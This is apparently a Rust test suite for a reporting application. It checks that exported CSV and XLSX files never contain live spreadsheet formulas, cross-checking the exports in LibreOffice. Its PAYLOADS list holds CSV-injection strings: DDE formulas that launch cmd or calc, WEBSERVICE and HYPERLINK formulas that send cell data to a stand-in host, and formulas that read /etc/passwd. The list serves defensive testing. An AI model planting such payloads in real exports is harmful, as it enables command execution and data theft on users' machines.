//! Words that a spreadsheet would take for a formula, as names, sources and remarks: no file that is handed out computes one.
//!
//! What is looked at in every run is what a spreadsheet looks at: the kind of each cell in a workbook, the first sign of each
//! cell in a CSV file. In the long run LibreOffice opens the same files, and is asked to compute what it would compute.

use std::path::{Path, PathBuf};
use std::process::Command;

use sipar::app::report::Office as Issuer;
use sipar::app::scope::Scope;
use sipar::domain::lang::Lang;
use sipar::report::csv::{For, write};
use sipar::report::{Annex, Block, Cell, Column, Foot, Head, Report, Table, xlsx};

use crate::support::at::At;
use crate::support::both::TestDb;
use crate::support::office::{OFFICE, Office};
use crate::support::reports::part;
use crate::support::scale::pick;
use crate::support::staff::employ;
use sipar::domain::access::Role;

/// By which sign they begin, what they would do, and how they hide; those of OWASP's “CSV Injection” among them.
const PAYLOADS: [&str; 50] = [
    "=1+1",
    "=CMD|'/C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+1+1",
    "+CMD|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://vi-du.invalid/?x=\"&A1,\"Bấm vào đây\")",
    "=WEBSERVICE(\"http://vi-du.invalid/\"&A1)",
    "=IMPORTXML(CONCAT(\"http://vi-du.invalid/\",A1),\"//a\")",
    "=IMPORTDATA(\"http://vi-du.invalid/\")",
    "=IMAGE(\"http://vi-du.invalid/a.png\")",
    "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")",
    "=DDE(\"cmd\",\"/C calc\",\"__DdeLink_60_870516294\")",
    "='file:///etc/passwd'#$passwd.A1",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "{=SUM(1;1)}",
    "{=1+1}",
    "==1+1",
    "=+1+1",
    "=-1",
    "=@A1",
    "=\"a\"&\"b\"",
    "=(1+1)",
    "=TRUE()",
    "=A1",
    "=R1C1",
    "=#REF!",
    "=NOW()",
    "=RAND()",
    "=CHAR(61)",
    "=SUM(1,1)",
    "=SUM(1;1)",
    "=Tổng(1;1)",
    " =1+1",
    "   @SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\"=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{a0}=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(1)",
];

/// A report that has each of them in every place where a word stands.
fn report() -> Report {
    let words = |text: &str| Cell::Words(text.to_owned());
    let table = |at: usize, payload: &str| Table {
        id: format!("bang-{at}"),
        caption: payload.to_owned(),
        columns: vec![Column::new(payload, 10), Column::new("Nội dung", 10)],
        rows: vec![vec![words(payload), words("a")], vec![words("b"), words(payload)]],
        notes: vec![payload.to_owned()],
    };
    let head = Head {
        above: None,
        issuer: "Sở".to_owned(),
        symbol: "BC".to_owned(),
        place: "Cao Bằng".to_owned(),
        year: 2026,
        subject: "Thử".to_owned(),
        addressees: Vec::new(),
        letter: None,
    };
    let blocks = PAYLOADS.iter().enumerate().map(|(at, payload)| Block::Table(table(at, payload))).collect();
    let annexes = vec![Annex { title: "Phụ lục".to_owned(), wide: false, blocks }];
    Report {
        head,
        body: Vec::new(),
        foot: Foot { recipients: Vec::new(), capacity: Vec::new(), signer: None },
        annexes,
    }
}

/// The fields of a CSV file with this between them.
fn fields(bytes: &[u8], delimiter: u8) -> Vec<String> {
    let text = std::str::from_utf8(bytes).unwrap().trim_start_matches('\u{feff}');
    let mut reader =
        csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).flexible(true).from_reader(text.as_bytes());
    reader.records().flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

/// Whether a spreadsheet might compute a field: by the first sign that it sees.
fn computes(field: &str) -> bool {
    let seen = field.trim_start_matches(|sign: char| {
        sign.is_whitespace() || sign.is_control() || "\"{\u{feff}\u{200b}".contains(sign)
    });
    let number = field.replace(',', ".").parse::<f64>().is_ok();
    !number && seen.starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'])
}

/// Every sheet of a workbook, as it is written.
fn sheets(book: &[u8]) -> Vec<String> {
    // Numbered from 1.
    let parts = part(book, "xl/workbook.xml").matches("<sheet ").count();
    (1..=parts).map(|number| part(book, &format!("xl/worksheets/sheet{number}.xml"))).collect()
}

/// The files of a folder that a spreadsheet opens.
fn opened_by_spreadsheets(folder: &Path) -> Vec<PathBuf> {
    let all = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    let mut files: Vec<PathBuf> =
        all.filter(|path| path.extension().is_some_and(|ending| ending == "csv" || ending == "xlsx")).collect();
    // Those of one kind beside each other.
    files.sort_by_key(|file| {
        (file.to_string_lossy().ends_with("utf8.csv"), file.extension().map(ToOwned::to_owned), file.clone())
    });
    files
}

fn none_computes(folder: &Path) {
    let files = opened_by_spreadsheets(folder);
    assert!(!files.is_empty());
    for file in &files {
        let bytes = std::fs::read(file).unwrap();
        if file.extension().is_some_and(|ending| ending == "xlsx") {
            let sheets = sheets(&bytes);
            assert!(
                !sheets.is_empty() && sheets.iter().all(|sheet| !sheet.contains("<f>") && !sheet.contains("<f ")),
                "{}",
                file.display()
            );
        } else {
            let semicolons = bytes.starts_with("\u{feff}".as_bytes());
            for field in fields(&bytes, if semicolons { b';' } else { b',' }) {
                assert!(!computes(&field), "{}: {field:?}", file.display());
            }
        }
    }
    if pick(false, true) {
        none_computes_in_calc(folder, &files);
    }
}

/// LibreOffice opens each file, and says of each cell whether it is a formula.
fn none_computes_in_calc(folder: &Path, files: &[PathBuf]) {
    let profile = format!("-env:UserInstallation=file://{}", folder.join("profile").display());
    let out = folder.join("opened");
    // What stands between cells is told, as by somebody at the window that asks for it; 34 is the quote, 76 is UTF-8.
    let kind = |file: &Path| match std::fs::read(file).unwrap() {
        bytes if bytes.starts_with(b"PK") => None,
        bytes if bytes.starts_with("\u{feff}".as_bytes()) => Some("--infilter=CSV:59,34,76,1"),
        _ => Some("--infilter=CSV:44,34,76,1"),
    };
    for chunk in files.chunk_by(|one, next| kind(one) == kind(next)) {
        let done = Command::new("soffice")
            .arg(&profile)
            .args(kind(&chunk[0]))
            .args(["--headless", "--convert-to", "fods", "--outdir"])
            .arg(&out)
            .args(chunk)
            .output()
            .unwrap();
        assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
        for file in chunk {
            let opened = out.join(file.with_extension("fods").file_name().unwrap());
            let text = std::fs::read_to_string(&opened).unwrap();
            let cells = text.matches("<table:table-cell").count();
            assert!(cells > 3, "{}: {cells} cells", file.display());
            let formula = text.find("table:formula=").map(|at| text[at..].chars().take(160).collect::<String>());
            assert_eq!(formula, None, "{}", file.display());
            std::fs::remove_file(opened).unwrap();
        }
    }
}

/// Without the apostrophe, a field of each kind is one that a spreadsheet would compute: the check can fail.
#[test]
fn what_is_not_guarded_is_found() {
    assert!(PAYLOADS.iter().all(|payload| computes(payload)), "every one is found as it is");
    assert!(!computes("-0,5") && !computes("Hà Nội = 1") && !computes("'=1+1"));
    if pick(false, true) {
        let folder = tempfile::tempdir().unwrap();
        let file = folder.path().join("tho.csv");
        std::fs::write(&file, "a,b,c\n=1+1,d,e\n").unwrap();
        let found = std::panic::catch_unwind(|| none_computes_in_calc(folder.path(), std::slice::from_ref(&file)));
        assert!(found.is_err(), "LibreOffice computes what is not guarded");
    }
}

#[test]
fn no_word_of_a_report_becomes_a_formula() {
    let report = report();
    let folder = tempfile::tempdir().unwrap();
    let book = xlsx::write(&report).unwrap();
    std::fs::write(folder.path().join("r.xlsx"), &book).unwrap();
    for (table, payload) in report.tables().into_iter().zip(PAYLOADS) {
        for (whom, ending, delimiter) in [(For::Excel, "csv", b';'), (For::Machines, "utf8.csv", b',')] {
            let bytes = write(table, whom).unwrap();
            std::fs::write(folder.path().join(format!("{}.{ending}", table.id)), &bytes).unwrap();
            let kept = fields(&bytes, delimiter).into_iter().filter(|field| *field == format!("'{payload}")).count();
            assert_eq!(kept, 3, "{payload:?} stands behind an apostrophe, and is else as it was");
        }
    }
    none_computes(folder.path());
    // In the workbook each is a text, letter by letter.
    let strings = part(&book, "xl/sharedStrings.xml");
    for payload in PAYLOADS.iter().filter(|payload| !payload.contains(['\t', '\r', '\n', '"', '\'', '&', '\u{feff}'])) {
        assert!(strings.contains(*payload), "{payload:?}");
    }
    let cells: usize = sheets(&book).iter().map(|sheet| sheet.matches(" t=\"s\"").count()).sum();
    assert_eq!(cells, 8 * PAYLOADS.len(), "caption, headings, cells and note of each");
}

#[test]
fn no_source_of_a_figure_becomes_a_formula_on_its_way_out() {
    let db = TestDb::sqlite(Some(OFFICE));
    let office = Office::open(&db);
    let app = &office.app;
    // What an import takes: without letters that control, which are refused or put right there.
    let taken: Vec<&str> = PAYLOADS.into_iter().filter(|payload| !payload.contains(char::is_control)).collect();
    let indices = ["sipas", "par-index", "papi", "pci"];
    let mut file = csv::Writer::from_writer(Vec::new());
    file.write_record(["index", "unit", "year", "value", "rank", "of", "status", "source", "method_break", "remark"])
        .unwrap();
    for (at, payload) in taken.iter().enumerate() {
        let (index, year) = (indices[at % indices.len()], (2010 + at / indices.len()).to_string());
        file.write_record([index, "cao-bang", &year, "50", "", "", "sourced", payload, "", payload]).unwrap();
    }
    app.bring_series_from("series.csv", &file.into_inner().unwrap()).unwrap();
    employ(app, "ld", Role::Leader, "cao-bang");
    let report =
        app.report_of_board(&Scope::Everywhere, "cao-bang", 2021, &Issuer::default(), Lang::Vi).unwrap().report;
    let folder = tempfile::tempdir().unwrap();
    app.report_files(&report, "bang", folder.path()).unwrap();
    let ld = At::new(&office, "ld");
    for index in indices {
        let out = ld.file(&format!("/series/{index}/cao-bang/{index}-cao-bang.csv"));
        std::fs::write(folder.path().join(format!("chuoi-{index}.csv")), out).unwrap();
    }
    none_computes(folder.path());
    let all: String = opened_by_spreadsheets(folder.path())
        .iter()
        .filter(|file| file.extension().is_some_and(|ending| ending == "csv"))
        .map(|file| std::fs::read_to_string(file).unwrap())
        .collect();
    for payload in &taken {
        let written = payload.trim().replace('"', "\"\"");
        assert!(all.contains(&written), "{payload:?} is there");
    }
}
